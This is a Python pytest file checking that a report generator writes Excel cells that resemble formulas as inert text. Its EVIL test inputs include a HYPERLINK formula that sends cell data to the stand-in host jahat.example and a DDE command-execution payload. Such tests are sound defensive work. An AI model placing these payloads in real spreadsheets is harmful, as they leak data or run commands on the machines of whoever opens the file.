import io
import re
import zipfile
from dataclasses import replace
from datetime import datetime

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports import workbook
from reports.text import tidy
from tests.reports import paper_samples, samples

EVIL = [
    '=HYPERLINK("http://jahat.example/?"&A1,"klik")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=cmd|'/c calc'!A0",
    "'=1",
    "＝1＝1",
    "1.3.2.02.01.01.003.00012",
    "00012345678901234567",
]


def opened(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def with_purpose(purpose: str) -> bytes:
    lines = samples.booking_lines(1)
    lines = (replace(lines[0], purpose=purpose),)
    return workbook.draw(
        replace(
            paper_samples.compliance(0),
            bookings=lines,
            agencies=samples.agency_counts(lines),
        )
    )


@pytest.mark.parametrize("evil", EVIL)
def test_words_that_look_like_a_formula_stay_words(evil: str) -> None:
    drawn = with_purpose(evil)
    cell = opened(drawn)["Peminjaman"]["F2"]
    assert cell.value == evil
    assert cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(drawn)) as parts:
        sheets = [
            parts.read(name) for name in parts.namelist() if "worksheets/" in name
        ]
    assert not any(re.search(rb"<f[ >]", sheet) for sheet in sheets)


@settings(max_examples=30, deadline=None)
@given(st.text(max_size=80))
def test_no_text_breaks_the_workbook(value: str) -> None:
    cell = opened(with_purpose(value))["Peminjaman"]["F2"]
    assert (cell.value or "").replace("\r", "") == tidy(value)


def test_a_very_long_text_is_cut_where_excel_would() -> None:
    value = opened(with_purpose("x" * 40_000))["Peminjaman"]["F2"].value
    assert isinstance(value, str)
    assert len(value) <= 32_767
    assert value.endswith("[…]")


def test_the_same_content_gives_the_same_bytes(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    first = workbook.draw(paper_samples.compliance())
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    monkeypatch.setattr(
        "time.localtime", lambda *_: (2033, 5, 18, 3, 33, 20, 2, 138, 0)
    )
    assert workbook.draw(paper_samples.compliance()) == first
    assert opened(first).properties.modified.isoformat() == "2025-01-02T02:15:00"


def test_the_sheets_hold_the_counts_and_every_booking() -> None:
    content = samples.audit_report()
    book = opened(workbook.draw(content))
    assert book.sheetnames == ["Ringkasan", "Peminjaman", "Temuan", "Indikasi"]
    total = [cell.value for cell in book["Ringkasan"][book["Ringkasan"].max_row]]
    assert total[0] == "Jumlah"
    assert total[6] == len(content.bookings)
    assert book["Peminjaman"].max_row == len(content.bookings) + 1
    assert isinstance(book["Peminjaman"]["G2"].value, datetime)
